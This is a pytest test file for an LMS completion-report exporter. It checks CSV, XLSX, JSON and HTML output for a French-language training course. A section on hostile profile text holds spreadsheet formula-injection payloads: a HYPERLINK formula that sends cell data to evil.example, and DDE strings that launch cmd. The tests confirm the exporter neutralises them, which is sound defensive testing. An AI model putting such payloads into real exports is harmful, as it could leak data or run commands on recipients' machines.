"""Completion reports: exact CSV, XLSX read back, JSON against its schema, same snapshot -> same bytes."""

from __future__ import annotations

import io
import json
from datetime import UTC, date, datetime
from pathlib import Path

import jsonschema
import openpyxl
import pytest

from lms_sync.cli import main
from lms_sync.reports import CONTENT_TYPES, FORMATS, NoSnapshot, build_report, render_report, schema
from lms_sync.snapshots import Attendance, ParticipantRow, SessionInfo, Snapshot, save_snapshot
from lms_sync.store import Store

SESSIONS = (
    SessionInfo("seance-1", "Séance 1", "2020-12-09T09:00:00", "2020-12-09T12:00:00", activity=4, cmid=4),
    SessionInfo("seance-2", "Séance 2", "2020-12-23T09:00:00", "2020-12-23T12:00:00", cancelled=True),
)
TAKEN = datetime(2021, 1, 21, 9, 30, tzinfo=UTC)


def _rows(failed: bool = False) -> list[ParticipantRow]:
    a = {"seance-1": Attendance(True, 1607504400), "seance-2": Attendance(None)}
    absent = {"seance-1": Attendance(False), "seance-2": Attendance(None)}
    return [
        ParticipantRow(5, "hlefevre", "DGIDT-0001", "Hélène Lefèvre", "helene@example.invalid",
                       "Ministère de l'Industrie", "études & développement", completed=True,
                       time_completed=1607600000, attendance=a),
        ParticipantRow(6, "fmenard", "", "François Ménard", "francois@example.invalid", "STEG", "DSI",
                       completed=False, attendance=absent),
        ParticipantRow(7, "zd", "", "Zoé; \"Z\" d’Arçy", "zoe@example.invalid", "", "",
                       status="failed" if failed else "ok", completed=None if failed else False,
                       error="dmlreadexception" if failed else None, attendance=absent),
    ]


def _snapshot(store: Store, *, failed: bool = False, taken: datetime = TAKEN) -> int:
    run = store.start_run("pull", taken)
    save_snapshot(store, Snapshot(run, "dgidt-ia-2020", "Cycle IA", "Africa/Tunis", 2, taken, "calls",
                                  complete=not failed, completion_enabled=True, sessions=SESSIONS), _rows(failed))
    store.finish_run(run, "partial" if failed else "ok", int(failed))
    return run


@pytest.fixture
def store(tmp_path: Path) -> Store:
    """A store holding one complete snapshot."""
    s = Store(tmp_path / "state.sqlite3")
    _snapshot(s)
    return s


EXPECTED_CSV_FR = (
    "\ufeffNom;Courriel;Institution;Service;Séance 1;Séance 2 (annulée);Taux de présence (%);Formation achevée;"
    "Achevée le;Données Moodle\r\n"
    "Zoé; \"Z\" d’Arçy;zoe@example.invalid;;;non;;0,0;non;;\r\n"
    "Hélène Lefèvre;helene@example.invalid;Ministère de l'Industrie;études & développement;oui;;100,0;oui;"
    "2020-12-10 12:33;\r\n"
    "François Ménard;francois@example.invalid;STEG;DSI;non;;0,0;non;;\r\n"
).replace('Zoé; "Z" d’Arçy', '"Zoé; ""Z"" d’Arçy"')

EXPECTED_INSTITUTIONS_CSV_FR = (
    "\ufeffInstitution;Inscrits;Présents – Séance 1;Présents – Séance 2 (annulée);Taux de présence (%);Ont achevé;"
    "Taux d'achèvement (%);Non lus;Plus inscrits\r\n"
    "(non renseignée);1;0;0;0,0;0;0,0;0;0\r\n"
    "Ministère de l'Industrie;1;1;0;100,0;1;100,0;0;0\r\n"
    "STEG;1;0;0;0,0;0;0,0;0;0\r\n"
    "Total;3;1;0;33,3;1;33,3;0;0\r\n"
)


def test_csv_exact_french_default(store: Store) -> None:
    """One table per file: the participants by default; UTF-8 with BOM, ';', CRLF, quoting, decimal comma."""
    assert render_report(store, "csv") == EXPECTED_CSV_FR.encode("utf-8")
    assert render_report(store, "csv", view="institutions") == EXPECTED_INSTITUTIONS_CSV_FR.encode("utf-8")


def test_csv_sessions_view(store: Store) -> None:
    """--view sessions: one row per session, when it starts, whether it was cancelled or tracked, attendance."""
    text = render_report(store, "csv", view="sessions").decode("utf-8-sig")
    assert text.split("\r\n") == [
        "N°;Code de la séance;Séance;Début;Annulée;Présence suivie;Présents;Présence relevée;Taux de présence (%)",
        "1;seance-1;Séance 1;2020-12-09 09:00;non;oui;1;3;33,3",
        "2;seance-2;Séance 2;2020-12-23 09:00;oui;non;0;0;",
        "",
    ]


def test_csv_unknown_view_is_refused(store: Store) -> None:
    with pytest.raises(ValueError, match="use one of participants, institutions, cohorts, sessions"):
        render_report(store, "csv", view="people")


def test_csv_english_with_commas(store: Store) -> None:
    """--lang en --delimiter ,: English words, ',' separators, decimal point."""
    text = render_report(store, "csv", lang="en", delimiter=",").decode("utf-8-sig")
    lines = text.split("\r\n")
    assert lines[0] == ("Name,Email,Institution,Department,Séance 1,Séance 2 (cancelled),Attendance rate (%),"
                        "Course completed,Completed on,Moodle data")
    assert lines[2] == ("Hélène Lefèvre,helene@example.invalid,Ministère de l'Industrie,études & développement,yes,,"
                        "100.0,yes,2020-12-10 12:33,")
    institutions = render_report(store, "csv", lang="en", delimiter=",", view="institutions").decode("utf-8-sig")
    assert institutions.split("\r\n")[-2] == "Total,3,1,0,33.3,1,33.3,0,0"


def test_xlsx_read_back(store: Store) -> None:
    """A sheet per view, header frozen, real datetimes and a numeric rate."""
    wb = openpyxl.load_workbook(io.BytesIO(render_report(store, "xlsx")))
    assert wb.sheetnames == ["Participants", "Par institution", "Par séance"]
    people, inst = wb["Participants"], wb["Par institution"]
    assert people.freeze_panes == "A2" and inst.freeze_panes == "A2"
    assert [c.value for c in people[1]][:4] == ["Nom", "Courriel", "Institution", "Service"]
    helene = [c.value for c in people[3]]
    assert helene[0] == "Hélène Lefèvre"
    assert helene[6] == 1.0 and people.cell(row=3, column=7).number_format == "0.0%"  # attendance rate
    assert helene[8] == datetime(2020, 12, 10, 12, 33, 20)  # a real date, in Tunis time
    assert people.cell(row=3, column=9).number_format == "dd/mm/yyyy hh:mm"  # day first, as in France
    total = [c.value for c in inst[inst.max_row]]
    assert total[0] == "Total" and total[1] == 3 and total[4] == pytest.approx(1 / 3) and total[5] == 1
    assert total[6] == pytest.approx(1 / 3)
    assert wb.properties.modified == TAKEN.replace(tzinfo=None)
    assert wb.properties.creator == "DGIDT" and wb.properties.title == "Rapport d'achèvement – Cycle IA"
    sessions = wb["Par séance"]
    assert [c.value for c in sessions[2]][:4] == [1, "seance-1", "Séance 1", datetime(2020, 12, 9, 9, 0)]


def test_json_follows_its_schema(store: Store) -> None:
    """The JSON validates against the shipped schema, and says what the snapshot said."""
    data = json.loads(render_report(store, "json"))
    jsonschema.Draft202012Validator.check_schema(schema())
    jsonschema.Draft202012Validator(schema()).validate(data)
    assert data["schema_version"] == "1.4"
    assert data["snapshot"]["complete"] is True and data["snapshot"]["taken_at"] == "2021-01-21T09:30:00Z"
    helene = next(p for p in data["participants"] if p["user_id"] == 5)
    assert helene["attended"] == {"seance-1": True, "seance-2": None}
    assert helene["time_completed"] == "2020-12-10T12:33:20+01:00"
    assert data["totals"] == {"enrolled": 3, "attended": {"seance-1": 1, "seance-2": 0},
                              "marked": {"seance-1": 3, "seance-2": 0}, "attendance_rate": 0.3333, "completed": 1,
                              "completion_rate": 0.3333, "failed": 0, "no_access": 0}


def test_html_is_self_contained_printable_and_french(store: Store) -> None:
    """One page, no script or external resource, two charts, print styles."""
    page = render_report(store, "html").decode("utf-8")
    assert page.startswith("<!DOCTYPE html>") and '<html lang="fr">' in page
    assert page.count('<ul class="bars">') == 2 and "@media print" in page and "size:A4 landscape" in page
    assert "<script" not in page and "src=" not in page and "http://" not in page.replace(
        "http://www.w3.org/2000/svg", "")
    assert "Ministère de l&#39;Industrie" in page and "Taux d&#39;achèvement par institution" in page
    # The only snapshot: nothing to compare with, so no "since the previous snapshot".
    assert "Premier instantané : 1 ont achevé à ce jour" in page and "précédent" not in page


def test_the_next_snapshot_counts_since_the_previous(store: Store) -> None:
    first = store.runs()[0].id
    second = _snapshot(store, taken=datetime(2021, 1, 22, 9, 30, tzinfo=UTC))
    assert "Ont achevé depuis l&#39;instantané précédent : 0" in render_report(store, "html").decode()
    assert "Completed since the previous snapshot: 0" in render_report(store, "html", lang="en").decode()
    data = json.loads(render_report(store, "json"))
    assert data["since"] == {"date": None, "completed": 0, "previous_run": first}
    first_only = json.loads(render_report(store, "json", run=first))
    assert first_only["since"] == {"date": None, "completed": 1, "previous_run": None}
    assert second > first


@pytest.mark.parametrize("fmt", FORMATS)
def test_same_snapshot_same_bytes(store: Store, fmt: str) -> None:
    """Built twice, and again after a newer pull, the report of one snapshot does not change."""
    first = render_report(store, fmt, run=1)
    assert render_report(store, fmt, run=1) == first
    _snapshot(store, taken=datetime(2021, 2, 1, tzinfo=UTC))
    assert render_report(store, fmt, run=1) == first
    assert fmt in CONTENT_TYPES


@pytest.mark.parametrize("fmt", FORMATS)
def test_incomplete_snapshot_says_so(tmp_path: Path, fmt: str) -> None:
    """Every format flags an incomplete snapshot and the participant who could not be read."""
    with Store(tmp_path / "s.sqlite3") as s:
        _snapshot(s, failed=True)
        body = render_report(s, fmt, lang="en")
        institutions = render_report(s, "csv", lang="en", view="institutions").decode("utf-8-sig")
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(io.BytesIO(body))["Participants"]
        texts = [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None]
    elif fmt == "json":
        data = json.loads(body)
        assert data["snapshot"]["complete"] is False and data["totals"]["failed"] == 1
        assert [p["status"] for p in data["participants"] if p["user_id"] == 7] == ["failed"]
        return
    elif fmt == "csv":  # one table: no banner line, the row says it and the institutions count it
        assert "READ FAILED" in body.decode("utf-8-sig")
        assert institutions.split("\r\n")[-2].split(";")[-2:] == ["1", "0"]  # not read: 1
        return
    else:
        texts = [body.decode("utf-8-sig")]
    joined = "\n".join(texts)
    assert "INCOMPLETE SNAPSHOT: 1 participant(s) could not be read" in joined
    assert "READ FAILED" in joined


def test_since_date_lists_only_recent_completions(store: Store) -> None:
    """--since keeps the institution counts whole and lists those who completed on or after the date."""
    report = build_report(store, since=date(2020, 12, 10))
    assert [p.user_id for p in report.participants] == [5]
    assert report.totals.enrolled == 3
    assert build_report(store, since=date(2020, 12, 11)).participants == ()


def test_no_snapshot_is_a_lookup_error(tmp_path: Path) -> None:
    """The server maps this to 404; the CLI to a message saying to pull first."""
    with Store(tmp_path / "empty.sqlite3") as s, pytest.raises(NoSnapshot):
        render_report(s, "csv")


def test_cli_writes_reports_owner_only(workdir: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """lms-sync report completion: mode 0600, unchanged on a second run; --run of a missing run fails clearly."""
    with Store(workdir / "var" / "lms_sync.sqlite3") as s:
        _snapshot(s)
    assert main(["report", "completion", "--format", "xlsx"]) == 0
    out = workdir / "var" / "reports" / "completion.xlsx"
    assert out.stat().st_mode & 0o777 == 0o600
    assert main(["report", "completion", "--format", "xlsx"]) == 0
    assert "unchanged" in capsys.readouterr().out
    assert main(["report", "completion", "--run", "99"]) == 2
    assert "run 99 has no completion snapshot" in capsys.readouterr().err


# ------------------------------------------------------------------------- hostile profile text

HOSTILE = {
    "fullname": '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
    "email": "+33@example.invalid",
    "institution": "-2+3+cmd|' /C calc'!A0",
    "department": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def _store_with(tmp_path: Path, rows: list[ParticipantRow], name: str = "s.sqlite3") -> Store:
    s = Store(tmp_path / name)
    run = s.start_run("pull", TAKEN)
    failed = any(r.status == "failed" for r in rows)
    save_snapshot(s, Snapshot(run, "dgidt-ia-2020", "Cycle IA", "Africa/Tunis", 2, TAKEN, "calls",
                              complete=not failed, completion_enabled=True, sessions=SESSIONS), rows)
    s.finish_run(run, "partial" if failed else "ok", int(failed))
    return s


def _hostile_rows() -> list[ParticipantRow]:
    absent = {"seance-1": Attendance(False), "seance-2": Attendance(None)}
    return [
        ParticipantRow(8, "evil", "", HOSTILE["fullname"], HOSTILE["email"], HOSTILE["institution"],
                       HOSTILE["department"], completed=False, attendance=absent),
        ParticipantRow(9, "tab", "", "\tTab", "cr@example.invalid", "\rCR", "=1+1", completed=False,
                       attendance=absent),
    ]


def test_csv_defuses_formulas_from_profiles(tmp_path: Path) -> None:
    """Cells starting with = + - @ tab or CR get a leading ' (OWASP); read back, nothing else changes."""
    import csv

    with _store_with(tmp_path, _hostile_rows()) as s:
        text = render_report(s, "csv").decode("utf-8-sig")
        by_institution = render_report(s, "csv", view="institutions").decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    institution_table = list(csv.reader(io.StringIO(by_institution, newline=""), delimiter=";"))
    evil = next(r for r in table if r and r[0].startswith("'=HYPERLINK"))
    assert evil[:4] == ["'" + HOSTILE[k] for k in ("fullname", "email", "institution", "department")]
    tab = next(r for r in table if r and r[0] == "'\tTab")
    assert tab[2:4] == ["'\rCR", "'=1+1"]
    institutions = [r[0] for r in institution_table if r]
    assert "'" + HOSTILE["institution"] in institutions and "'\rCR" in institutions
    # No cell anywhere still starts with a formula character.
    cells = [c for r in (*table, *institution_table) for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_xlsx_keeps_profile_formulas_as_text(tmp_path: Path) -> None:
    """Read back with openpyxl: every hostile value is a plain string cell (type s), never a formula (type f)."""
    with _store_with(tmp_path, _hostile_rows()) as s:
        wb = openpyxl.load_workbook(io.BytesIO(render_report(s, "xlsx")))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_value = {c.value: c for c in cells}
    for value in (*HOSTILE.values(), "\tTab", "=1+1"):
        assert by_value[value].data_type == "s", value  # the exact text, no added quote
        assert by_value[value].quotePrefix  # Excel keeps it text even when the cell is edited
    assert by_value["Nom"].data_type == "s" and not by_value["Nom"].quotePrefix  # ordinary text untouched


# -------------------------------------------------------------------------------- no longer enrolled


def test_participants_no_longer_enrolled_are_counted_apart(tmp_path: Path) -> None:
    """no_access rows leave enrolled, attended, completed and the rate; failed rows stay counted, flagged."""
    absent = {"seance-1": Attendance(False), "seance-2": Attendance(None)}
    rows = [
        *_rows(failed=True),  # Hélène (complete), François, Zoé failed (no institution)
        ParticipantRow(10, "gone", "", "Ghislaine Partie", "gone@example.invalid", "STEG", "DSI",
                       status="no_access", completed=True, error="usernotenroled",
                       attendance={"seance-1": Attendance(True), "seance-2": Attendance(None)}),
        ParticipantRow(11, "gone2", "", "Gaston Parti", "gone2@example.invalid", "Poste", "",
                       status="no_access", error="usernotenroled", attendance=absent),
    ]
    with _store_with(tmp_path, rows) as s:
        report = build_report(s)
        data = json.loads(render_report(s, "json"))
        text = render_report(s, "csv", lang="en", delimiter=",", view="institutions").decode("utf-8-sig")
        inst = openpyxl.load_workbook(io.BytesIO(render_report(s, "xlsx", lang="en")))["By institution"]
    totals = report.totals
    counts = (totals.enrolled, totals.attended, totals.completed, totals.failed, totals.no_access)
    assert counts == (3, (1, 0), 1, 1, 2)
    assert totals.rate == pytest.approx(1 / 3)
    steg = next(i for i in report.institutions if i.institution == "STEG")
    assert (steg.enrolled, steg.attended[0], steg.completed, steg.no_access, steg.rate) == (1, 0, 0, 1, 0.0)
    poste = next(i for i in report.institutions if i.institution == "Poste")
    assert (poste.enrolled, poste.no_access, poste.rate) == (0, 1, None)
    assert len(report.participants) == 5  # still listed, with their status

    jsonschema.Draft202012Validator(schema()).validate(data)
    assert data["totals"] == {"enrolled": 3, "attended": {"seance-1": 1, "seance-2": 0},
                              "marked": {"seance-1": 3, "seance-2": 0}, "attendance_rate": 0.3333, "completed": 1,
                              "completion_rate": 0.3333, "failed": 1, "no_access": 2}
    lines = text.split("\r\n")
    assert lines[0].endswith(",Not read,No longer enrolled")
    assert "STEG,1,0,0,0.0,0,0.0,0,1" in lines and "Total,3,1,0,33.3,1,33.3,1,2" in lines
    header = [c.value for c in inst[2]]  # row 1: the incomplete-snapshot banner
    total = [c.value for c in inst[inst.max_row]]
    assert header[-1] == "No longer enrolled" and total[1] == 3 and total[-1] == 2 and total[-2] == 1


def test_schema_1_0_documents_still_validate() -> None:
    """no_access is optional in the schema: a 1.0 document (without it) still validates against 1.1."""
    counts = {"enrolled": 1, "attended": {}, "completed": 0, "completion_rate": 0.0, "failed": 0}
    doc = {
        "schema_version": "1.0",
        "programme": {"id": "p", "title": "P", "timezone": "Africa/Tunis"},
        "snapshot": {"run_id": 1, "taken_at": "2021-01-21T09:30:00Z", "source": "calls", "complete": True,
                     "completion_enabled": True, "course_id": 2, "notes": []},
        "sessions": [], "since": {"date": None, "completed": 0}, "participants": [],
        "institutions": [{"institution": "STEG", **counts}], "totals": counts,
    }
    jsonschema.Draft202012Validator(schema()).validate(doc)
